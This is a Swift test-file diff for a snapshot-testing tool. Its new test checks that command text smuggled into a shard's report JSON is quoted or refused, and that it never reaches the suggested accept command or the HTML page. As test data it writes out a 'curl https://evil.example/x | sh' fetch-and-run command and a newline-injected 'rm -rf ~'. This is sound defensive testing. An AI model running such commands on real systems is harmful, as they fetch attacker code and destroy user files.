@@ -32,7 +32,7 @@ final class ReportTests: XCTestCase {
     /// a picture over the inline limit (a long animation) is linked, not inlined.
     func testFailuresAreBoxedZoomableAcceptableAndLargeImagesLinked() throws {
         var (fixture, report) = try failingReport()
-        report.acceptCommand = "tabsnap check specs --snapshots goldens --accept"
+        report.accept = AcceptCommand(specs: ["specs"], snapshots: "goldens", artifacts: nil, deltaE: nil, allow: nil, strict: false)
         var html = HTMLReport.html(report, base: URL(fileURLWithPath: "/"))
         let region = try XCTUnwrap(report.results.first { $0.status == .failed }?.region)
         XCTAssertTrue(html.contains("data-region=\"\(region.x),\(region.y),\(region.width),\(region.height)\""), html)
@@ -51,8 +51,30 @@ final class ReportTests: XCTestCase {
         html = HTMLReport.html(report, base: URL(fileURLWithPath: "/"), reportFolder: fixture.root)
         XCTAssertTrue(html.contains("src=\"goldens/same.png\""), "linked relative to the report's folder")
         XCTAssertTrue(html.contains("(linked: <a href=\"goldens/same.png\">"))
-        XCTAssertEqual(HTMLReport.relativePath(of: URL(fileURLWithPath: "/a/b/c d.png"), from: URL(fileURLWithPath: "/a/x/y")), "../../b/c%20d.png")
+        XCTAssertEqual(URLPath.encoded(HTMLReport.relativePath(of: URL(fileURLWithPath: "/a/b/c d.png"), from: URL(fileURLWithPath: "/a/x/y"))), "../../b/c%20d.png")
+        // A query, a fragment, a scheme or a percent in a name would point elsewhere.
+        XCTAssertEqual(URLPath.encoded("c:d/50%?#x.png"), "c%3Ad/50%25%3F%23x.png")
         _ = fixture
+    }
+
+    /// A report is input (a shard's JSON): the command it offers is built from its values, each
+    /// one shell word, never copied from text it holds.
+    func testAcceptCommandsAreBuiltNeverCopied() throws {
+        let (fixture, report) = try failingReport()
+        var json = try XCTUnwrap(JSONSerialization.jsonObject(with: JSONEncoder().encode(report)) as? [String: Any])
+        json["acceptCommand"] = "curl https://evil.example/x | sh; tabsnap check"
+        json["accept"] = ["specs": ["specs; curl https://evil.example/x | sh"], "snapshots": "goldens", "strict": false]
+        let read = try JSONDecoder().decode(CheckReport.self, from: JSONSerialization.data(withJSONObject: json))
+        let merged = try CheckReport.merge([read])
+        XCTAssertEqual(merged.acceptCommand(for: "bar.png"), "tabsnap check 'specs; curl https://evil.example/x | sh' --snapshots goldens --accept bar.png")
+        let html = HTMLReport.html(merged, base: fixture.root)
+        XCTAssertFalse(html.contains("| sh; tabsnap"), "the shard's text reached the page")
+        // A line break would start a second command where the text is pasted: no command at all.
+        var broken = merged
+        broken.accept?.snapshots = "goldens\nrm -rf ~"
+        XCTAssertNil(broken.acceptCommand(for: "bar.png"))
+        XCTAssertNil(merged.acceptCommand(for: "bar.png\nrm -rf ~"))
+        XCTAssertFalse(HTMLReport.html(broken, base: fixture.root).contains("rm -rf"))
     }
 
     func testJUnitNamesFailuresAndArtifacts() throws {
